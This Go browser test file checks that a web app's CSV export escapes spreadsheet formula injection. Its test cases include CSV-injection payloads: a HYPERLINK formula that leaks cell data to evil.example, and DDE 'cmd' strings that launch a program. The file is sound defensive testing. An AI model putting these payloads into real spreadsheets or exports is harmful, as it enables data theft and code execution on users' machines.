package web_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/parley-cc/parley/internal/testenv"
)

// hostileCells are values a callee or a client can put into a report (an
// output entity, a name, a number) that a spreadsheet would run as
// formulas, each with the cell the CSV must hold instead (OWASP's CSV
// injection list: =, +, -, @, tab, carriage return).
var hostileCells = [][2]string{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"+79990000001", "'+79990000001"},
	{"plain, with \"quotes\"", "plain, with \"quotes\""},
	{"a = b", "a = b"},
	{"", ""},
}

// TestCSVModule runs the pages' one CSV writer in the browser: formula
// cells are neutralised, and the text is CSV a standard reader reads back.
func TestCSVModule(t *testing.T) {
	env := testenv.Start(t, testenv.SQLiteDSN(t))
	ctx := browser(t)
	do(t, ctx, chromedp.Navigate(env.URL()+"/login"), chromedp.WaitVisible(chromedp.CSS(`input[name=login]`)))
	var rows []map[string]string
	for _, c := range hostileCells {
		rows = append(rows, map[string]string{"value": c[0], "=header": "x"})
	}
	in, _ := json.Marshal(rows)
	text, err := chromedp.Run(ctx, chromedp.Evaluate[string](`import("/static/js/supervisor/csv.js").then((m) => m.toCSV(["value", "=header"], `+string(in)+`))`,
		chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	got := readCSV(t, text)
	if len(got) != len(hostileCells)+1 || got[0][1] != "'=header" {
		t.Fatalf("CSV rows %q", got)
	}
	for i, c := range hostileCells {
		if got[i+1][0] != c[1] {
			t.Errorf("cell %q written as %q, want %q", c[0], got[i+1][0], c[1])
		}
	}
}

// TestReportExportNeutralisesFormulas: the dialog report's "Export CSV"
// writes output entities set from callers' data as text, not formulas.
func TestReportExportNeutralisesFormulas(t *testing.T) {
	env := testenv.Start(t, testenv.SQLiteDSN(t))
	tn := env.NewTenant(t, "Sheets")
	ext, q := "/api/v2/ext", "?agent_uuid="+tn.AgentUUID
	must := func(r *testenv.Response, want int) *testenv.Response {
		t.Helper()
		if r.Status != want {
			t.Fatalf("status %d, want %d: %s", r.Status, want, r.Body)
		}
		return r
	}
	must(env.Do(t, "POST", ext+"/initial-entity/bulk"+q, tn.Token, map[string]any{"entities": []any{
		map[string]any{"name": "msisdn"}, map[string]any{"name": "said"}}}), 200)
	must(env.Do(t, "POST", ext+"/output-entity/bulk"+q, tn.Token, map[string]any{"entities": []any{map[string]any{"name": "note"}}}), 200)
	must(env.Do(t, "PUT", ext+"/agent-settings/script"+q, tn.Token, map[string]any{"name": "main",
		"source": "def main(s):\n    s.set(\"note\", s.entities.get(\"said\", \"\"))\n    s.hangup()\n"}), 200)
	hostile := hostileCells[:6]
	for i, c := range hostile {
		must(env.Do(t, "POST", ext+"/dialog/dialog-initial"+q, tn.Token, map[string]any{
			"msisdn": "7999000000" + string(rune('0'+i)), "script_name": "main", "said": c[0]}), 200)
	}

	ctx := browser(t)
	do(t, ctx,
		chromedp.Navigate(env.URL()+"/supervisor/"),
		chromedp.WaitVisible(chromedp.CSS(`input[name=login]`)),
		chromedp.SendKeys(chromedp.CSS(`input[name=login]`), tn.Login),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), tn.Password),
		chromedp.Click(chromedp.CSS(`button[type=submit]`)),
	)
	waitJS(t, ctx, "the agents view", `location.pathname === "/supervisor/" && document.querySelector("main").dataset.ready === "agents"`)
	// The report lists dialogs once called; reload the view until all are.
	for {
		view(t, ctx, "#/stats", "stats")
		waitJS(t, ctx, "the report", `document.getElementById("report-count")`)
		if js[string](t, ctx, `document.getElementById("report-count").textContent`) == "6 finished dialogs in the window." {
			break
		}
		view(t, ctx, "#/queue", "queue")
	}
	// The download goes through a Blob URL: keep the Blob's text, byte
	// order mark included.
	do(t, ctx, chromedp.Evaluate[chromedp.Void](`(() => { const orig = URL.createObjectURL; window.__csv = null;
		URL.createObjectURL = (b) => { b.arrayBuffer().then((buf) => { window.__csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(buf); }); return orig(b); }; })()`))
	do(t, ctx, chromedp.Click(chromedp.CSS(`#export`)))
	waitJS(t, ctx, "the CSV", `window.__csv !== null`)
	got := readCSV(t, js[string](t, ctx, `window.__csv`))
	col := -1
	for i, name := range got[0] {
		if name == "note" {
			col = i
		}
	}
	if col < 0 || len(got) != len(hostile)+1 {
		t.Fatalf("CSV %q", got)
	}
	notes := map[string]bool{}
	for _, row := range got[1:] {
		notes[row[col]] = true
		if strings.HasPrefix(row[2], "=") || strings.HasPrefix(row[1], "+") {
			t.Errorf("row %q has a formula cell", row)
		}
	}
	for _, c := range hostile {
		if !notes[c[1]] {
			t.Errorf("no note %q in the export", c[1])
		}
	}
	if t.Failed() {
		t.Logf("the export: %q", got)
	}
}

// readCSV reads CSV text as spreadsheets do: the byte order mark dropped.
func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	if !strings.HasPrefix(text, "\uFEFF") {
		t.Errorf("CSV without a byte order mark: %.40q", text)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF")))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV %q: %v", text, err)
	}
	return rows
}
